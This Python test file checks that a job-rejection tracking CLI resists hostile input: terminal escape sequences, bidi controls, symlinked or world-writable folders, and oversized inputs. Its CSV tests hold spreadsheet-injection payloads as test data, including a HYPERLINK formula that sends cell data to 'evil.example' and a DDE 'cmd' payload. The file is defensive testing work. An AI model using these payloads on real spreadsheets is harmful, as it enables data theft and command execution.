"""Reliability: what a stranger's email, spreadsheet or folder can do (issue 20), it cannot.

- Terminal output is never a channel: escape sequences (OSC 52 clipboard writes, window titles),
  C1 controls and bidi overrides from an email, a data file or a file name reach the terminal
  only as visible escapes; records refuse them at entry.
- Spreadsheets are not programs: a would-be formula is written with a leading ' and comes back
  as written when the export is imported.
- Folders that are not ours are refused (exit 77) before anything is read or written: another
  user's, one others may write in, a symbolic link; a pipe or a link where a cache file goes
  changes nothing and never hangs; data files and config.toml are never followed through links.
- Bounded work: each input the review found to crash or to eat memory is refused with exit 65
  under a memory bound (prlimit --as), and nothing is written.
A test that needs a second local user runs as `nobody` when root, and is skipped otherwise.
"""

import csv
import io
import json
import os
import pathlib
import pwd
import re
import shutil
import stat
import subprocess
import unittest

from reltest import BounceTestCase, checksums, is_root, report

ESC = "\x1b"
OSC52 = ESC + "]52;c;ZXZpbA==" + "\x07"
TITLE = ESC + "]0;pwned" + "\x07"
# What must never reach a terminal raw: C0 controls but newline and tab, DEL, C1 controls and
# the bidirectional controls.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e"
                         "\u2066-\u2069]")
# A memory bound for each run: far above what bounceback needs, far below what the inputs cost
# before they were bounded.
MEMORY = 512 << 20


def prlimit_as(size=MEMORY):
    if shutil.which("prlimit") is None or os.environ.get("ASAN_OPTIONS"):
        return []  # the sanitizer reserves terabytes of address space: no bound there
    return ["prlimit", "--as=%d" % size, "--"]


class Hostile(BounceTestCase):
    def setUp(self):
        super().setUp()
        self.ok("init", "--name", "Sam", "--email", "sam@example.com")
        self.log("Acme", "--date", "2026-11-20")

    def assertNoRawControls(self, r, what=""):
        for stream in (r.out, r.err):
            found = RAW_CONTROL.search(stream)
            if found:
                self.fail("%s: U+%04X reached the terminal raw near %r"
                          % (what, ord(found.group()), stream[max(0, found.start() - 40):
                                                             found.end() + 40]))

    def write_month(self, text):
        self.write_file(self.path("rejections", "2026-11.toml"), text)


class TerminalOutput(Hostile):
    def email(self, from_line, subject="Your application"):
        path = os.path.join(self.tmp, "mail.eml")
        with open(path, "w", encoding="utf-8", newline="") as f:
            f.write("From: %s\r\nTo: sam@example.com\r\nSubject: %s\r\n"
                    "Date: Fri, 20 Nov 2026 10:00:00 +0000\r\n\r\n"
                    "We regret to inform you that we will not move forward.\r\n"
                    % (from_line, subject))
        return path

    def test_escape_sequences_in_a_from_address_are_shown_escaped(self):
        before = checksums(self.home)
        for dry in ([], ["--dry-run"]):
            r = self.bb("log", "--from-email", self.email("<x%s%s@>" % (OSC52, TITLE)), *dry)
            self.assertNoRawControls(r, "From with OSC 52 " + " ".join(dry))
            r = self.bb("log", "--from-email", "-", *dry,
                        input=open(self.email("Evil %s <hr@%s.example>" % (OSC52, TITLE)),
                                   encoding="utf-8").read())
            self.assertNoRawControls(r, "mail filter " + " ".join(dry))
        self.assertEqual(checksums(self.home), before)

    def test_c1_and_bidi_from_an_encoded_subject_are_never_stored(self):
        # U+009B is CSI on some terminals; U+202E reverses what follows.
        for word in ("\u009b31mAcme", "Acme\u202eevil"):
            encoded = "=?utf-8?b?%s?=" % __import__("base64").b64encode(
                ("Update from " + word).encode()).decode()
            r = self.bb("log", "--from-email", self.email("hr@acme.example", encoded), "--dry-run")
            self.assertNoRawControls(r, "dry run of " + repr(word))
            r = self.bb("log", word, "--date", "2026-11-21")
            self.assertExit(r, 65 if r.code == 65 else 64, "log " + repr(word))
            self.assertNoRawControls(r, "refusal of " + repr(word))
        companies = [x["company"] for x in self.list_json()]
        self.assertEqual(companies, ["Acme"])

    def test_a_hand_edited_month_with_controls_is_refused_and_shown_escaped(self):
        self.write_month('version = 1\n\n[[rejection]]\ncompany = "A\u009b31m\u202eB"\n'
                         'date = 2026-11-20\nid = 1\n')
        r = self.bb("log", "list")
        self.assertExit(r, 65)
        self.assertNoRawControls(r, "log list")
        self.assertIn("U+009B", r.err)

    def test_doctor_shows_a_file_name_holding_escape_escaped(self):
        self.write_file(self.path("rejections", "x" + TITLE + ".toml"), "version = 1\n")
        r = self.bb("doctor")
        self.assertNoRawControls(r, "doctor")
        self.assertIn("\\x1b", r.out + r.err)

    def test_an_address_holding_a_space_or_control_is_not_an_address(self):
        for address in ("a b@acme.example", "a\x01b@acme.example"):
            r = self.bb("log", "--from-email", self.email("HR <%s>" % address), "--dry-run")
            self.assertNotIn(address, r.out + r.err)
            self.assertNoRawControls(r, repr(address))


class Spreadsheets(Hostile):
    FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"Acme")', "+1+cmd|' /C calc'!A0",
                "-2+3", "@SUM(A1)", "'=already quoted"]

    def test_formulas_are_neutralised_and_come_back_on_import(self):
        for i, text in enumerate(self.FORMULAS):
            self.log("Globex", "--date", "2026-11-%02d" % (i + 1), "--note", text)
        for args in (["export", "--csv", "--kind", "rejection"], ["log", "list", "--csv"]):
            rows = list(csv.DictReader(io.StringIO(self.ok(*args))))
            notes = [row["note"] for row in rows if row["note"]]
            self.assertEqual(len(notes), len(self.FORMULAS), args)
            for note in notes:
                self.assertEqual(note[0], "'", "%s wrote %r" % (args, note))
        export = os.path.join(self.tmp, "export.csv")
        pathlib.Path(export).write_text(self.ok("export", "--csv", "--kind", "rejection"))
        other = os.path.join(self.tmp, "other")
        self.assertExit(self.bb("import", export, home=other), 0)
        back = self.bb("log", "list", "--json", home=other)
        notes = sorted(x.get("note") for x in json.loads(back.out) if x.get("note"))
        self.assertEqual(notes, sorted(self.FORMULAS))

    def test_a_plain_negative_number_is_left_as_it_is(self):
        self.log("Globex", "--date", "2026-11-02", "--note", "-2")
        rows = list(csv.DictReader(io.StringIO(self.ok("log", "list", "--csv"))))
        self.assertIn("-2", [row["note"] for row in rows])


class Folders(Hostile):
    def assertRefused(self, r, what):
        self.assertExit(r, 77, what)
        self.assertNoRawControls(r, what)

    def test_a_home_others_may_write_in_is_refused(self):
        before = checksums(self.home)
        os.chmod(self.home, 0o777)
        for args in (["log", "list"], ["log", "Globex", "--date", "2026-11-21"], ["stats"]):
            r = self.bb(*args)
            self.assertRefused(r, " ".join(args))
            self.assertIn("chmod 700", r.err)
        r = self.bb("doctor")  # doctor reports it among its problems
        self.assertExit(r, 65)
        self.assertIn("chmod 700", r.out + r.err)
        os.chmod(self.home, 0o700)
        self.assertEqual(checksums(self.home), before)

    def test_a_world_writable_month_folder_is_refused(self):
        os.chmod(self.path("rejections"), 0o777)
        self.assertRefused(self.bb("log", "list"), "world-writable rejections/")

    def test_symlinked_folders_are_refused(self):
        elsewhere = os.path.join(self.tmp, "elsewhere")
        os.mkdir(elsewhere, 0o700)
        # The data folder, a kind's folder, and the cache's folders.
        link_home = os.path.join(self.tmp, "linked-home")
        os.symlink(self.home, link_home)
        self.assertRefused(self.bb("log", "list", home=link_home), "symlinked home")
        shutil.move(self.path("rejections"), os.path.join(elsewhere, "rejections"))
        os.symlink(os.path.join(elsewhere, "rejections"), self.path("rejections"))
        self.assertRefused(self.bb("log", "Globex", "--date", "2026-11-21"),
                           "symlinked rejections/")
        os.unlink(self.path("rejections"))
        shutil.move(os.path.join(elsewhere, "rejections"), self.path("rejections"))
        self.ok("log", "list")
        cache = self.path("cache", "rejections")
        if os.path.isdir(cache):
            shutil.rmtree(cache)
        os.makedirs(self.path("cache"), mode=0o700, exist_ok=True)
        os.symlink(elsewhere, cache)
        self.assertRefused(self.bb("log", "list"), "symlinked cache/rejections")
        self.assertEqual(os.listdir(elsewhere), [])

    def test_a_pipe_or_a_link_where_a_cache_file_goes_changes_nothing_and_never_hangs(self):
        self.ok("log", "list")
        cache = str(self.path("cache", "rejections", "2026-11.cache"))
        os.makedirs(os.path.dirname(cache), mode=0o700, exist_ok=True)
        for make in (lambda: os.mkfifo(cache, 0o600), lambda: os.symlink("/dev/zero", cache)):
            if os.path.lexists(cache):
                os.unlink(cache)
            make()
            for args in (["log", "list"], ["stats", "--all"]):
                r = self.bb(*args, timeout=20, wrap=prlimit_as())
                self.assertExit(r, 0, " ".join(args))
            self.assertIn("Acme", self.ok("log", "list"))

    def test_a_month_file_or_config_that_is_a_link_is_refused(self):
        month = str(self.path("rejections", "2026-11.toml"))
        forged = os.path.join(self.tmp, "forged.toml")
        pathlib.Path(forged).write_text('version = 1\n\n[[rejection]]\ncompany = "Forged Inc"\n'
                                        'date = 2026-11-20\nid = 1\n')
        os.rename(month, month + ".real")
        os.symlink(forged, month)
        r = self.bb("log", "list")
        self.assertNotEqual(r.code, 0)
        self.assertNotIn("Forged Inc", r.out)
        os.unlink(month)
        os.rename(month + ".real", month)
        config = str(self.path("config.toml"))
        shutil.move(config, os.path.join(self.tmp, "config.toml"))
        os.symlink(os.path.join(self.tmp, "config.toml"), config)
        # `log list` never reads config.toml; `stats` does ([signals], [week]).
        r = self.bb("stats")
        self.assertNotEqual(r.code, 0)
        self.assertIn("symbolic link", r.err)

    def test_a_secret_in_a_bad_config_value_is_not_echoed(self):
        config = self.path("config.toml")
        text = pathlib.Path(config).read_text()
        secret = "tok_live_4f9a8b7c6d5e"
        text = text.replace('email = "sam@example.com"', 'email = "%s"' % secret)
        self.assertIn(secret, text)
        pathlib.Path(config).write_text(text)
        for args in (["stats"], ["feedback-email", "1"]):
            r = self.bb(*args)
            self.assertExit(r, 78, " ".join(args))
            self.assertNotIn(secret, r.out + r.err)

    def test_a_hard_linked_lock_is_refused_and_its_file_keeps_its_mode(self):
        victim = os.path.join(self.tmp, "victim")
        pathlib.Path(victim).write_text("x")
        os.chmod(victim, 0o644)
        lock = self.path(".lock")
        if os.path.exists(lock):
            os.unlink(lock)
        os.link(victim, lock)
        r = self.bb("log", "Globex", "--date", "2026-11-21")
        self.assertExit(r, 77)
        self.assertEqual(stat.S_IMODE(os.stat(victim).st_mode), 0o644)

    def test_doctor_is_not_stopped_by_a_folder_named_like_a_temp_file(self):
        folder = self.path("rejections", ".2026-11.toml.tmp-abcdef")
        os.mkdir(folder, 0o700)
        pathlib.Path(folder, "keep").write_text("x")
        for args in (["doctor"], ["doctor", "--fix"]):
            r = self.bb(*args)
            self.assertIn(r.code, (0, 65), r.err)
            self.assertIn("left alone", r.out + r.err)
            self.assertTrue(os.path.isfile(os.path.join(folder, "keep")), args)

    def test_doctor_fix_leaves_a_hard_linked_lock_and_its_file_alone(self):
        victim = os.path.join(self.tmp, "victim")
        pathlib.Path(victim).write_text("x")
        os.chmod(victim, 0o644)
        os.unlink(self.path(".lock"))
        os.link(victim, self.path(".lock"))
        r = self.bb("doctor", "--fix")
        self.assertNotEqual(r.code, 0)
        self.assertEqual(stat.S_IMODE(os.stat(victim).st_mode), 0o644)
        self.assertEqual(pathlib.Path(victim).read_text(), "x")

    def test_doctor_never_removes_a_temp_file_outside_the_folders_it_checked(self):
        # A temp-named file reached through a linked cache folder, and one in a folder others
        # may write in: neither folder passes the checks, so neither file is touched.
        elsewhere = os.path.join(self.tmp, "elsewhere")
        os.mkdir(elsewhere, 0o700)
        outside = os.path.join(elsewhere, ".2026-11.cache.tmp-abcdef")
        pathlib.Path(outside).write_text("not bounceback's")
        cache = self.path("cache", "rejections")
        if os.path.isdir(cache):
            shutil.rmtree(cache)
        os.makedirs(self.path("cache"), mode=0o700, exist_ok=True)
        os.symlink(elsewhere, cache)
        shared = self.path("wins")
        os.mkdir(shared, 0o777)
        os.chmod(shared, 0o777)
        loose = os.path.join(shared, ".2026-11.toml.tmp-abcdef")
        pathlib.Path(loose).write_text("someone else's")
        for args in (["doctor"], ["doctor", "--fix"]):
            r = self.bb(*args)
            self.assertNotEqual(r.code, 0, args)
            self.assertNoRawControls(r, " ".join(args))
            self.assertTrue(os.path.exists(outside), args)
            self.assertTrue(os.path.exists(loose), args)
        self.assertIn("symbolic link", r.out + r.err)

    @unittest.skipUnless(is_root(), "needs a second local user: run as root to use 'nobody'")
    def test_a_home_made_first_by_another_user_is_refused(self):
        nobody = pwd.getpwnam("nobody")
        trap = os.path.join(self.tmp, "try")
        os.mkdir(trap, 0o700)
        os.chown(trap, nobody.pw_uid, nobody.pw_gid)
        r = self.bb("log", "list", home=trap)
        self.assertExit(r, 77)
        self.assertIn("another user", r.err)
        self.assertEqual(os.listdir(trap), [])


class Bounded(Hostile):
    def refused(self, args, what, **kwargs):
        before = checksums(self.home)
        r = self.bb(*args, wrap=prlimit_as(), timeout=120, **kwargs)
        self.assertExit(r, 65, what)
        self.assertEqual(checksums(self.home), before, what)
        self.assertNoRawControls(r, what)
        return r

    def big(self, name, text):
        path = os.path.join(self.tmp, name)
        pathlib.Path(path).write_text(text)
        return path

    def test_json_nested_50000_deep(self):
        self.refused(["import", self.big("deep.json", "[" * 50000 + "]" * 50000)], "deep JSON")

    def test_csv_of_8_mib_of_commas(self):
        self.refused(["import", "--format", "csv", self.big("commas.csv", "," * (8 << 20))],
                     "8 MiB of commas")

    def test_a_note_larger_than_a_text_field_holds(self):
        path = self.big("note.csv", "company,date,note\nGlobex,2026-11-21,%s\n" % ("n" * (1 << 20)))
        self.refused(["import", path], "1 MiB note")

    def test_a_csv_with_a_70_mib_note(self):
        path = self.big("note70.csv",
                        "company,date,note\nGlobex,2026-11-21,%s\n" % ("n" * (70 << 20)))
        r = self.refused(["import", path], "70 MiB note")
        self.assertIn("larger than", r.err)

    def test_an_import_that_would_make_a_month_larger_than_bounceback_reads(self):
        # Each note within the 64 KiB a field holds; together more than the 16 MiB a month
        # file may weigh: refused before anything is written, so every file written reads back.
        note = "n" * (60 << 10)
        rows = "".join("Co%d,2026-11-%02d,%s\n" % (i, 1 + i % 28, note) for i in range(300))
        path = self.big("month.csv", "company,date,note\n" + rows)
        r = self.refused(["import", path], "an 18 MB month")
        self.assertIn("2026-11.toml", r.err)
        self.assertIn("16 MiB", r.err)
        self.assertIn("Acme", self.ok("log", "list"))

    def test_a_toml_array_of_20_mb(self):
        self.write_month("version = 1\nx = [" + "1," * (10 << 20) + "]\n")
        r = self.refused(["doctor"], "doctor on a 20 MB array")
        self.refused(["log", "list"], "log list on a 20 MB array")
        self.assertIn("2026-11.toml", r.out + r.err)

    def test_a_template_with_50000_nested_sections(self):
        rid = "1"
        self.log("Globex", "--date", "2026-11-21", "--email", "hr@globex.example")
        body = "Subject: x\n\n" + "{{#company}}" * 50000 + "{{/company}}" * 50000 + "\n"
        os.makedirs(self.path("templates"), mode=0o700, exist_ok=True)
        self.write_file(self.path("templates", "deep.mustache"), body)
        self.refused(["feedback-email", rid, "--template", "deep"], "deep template")


if __name__ == "__main__":
    unittest.main(verbosity=2)
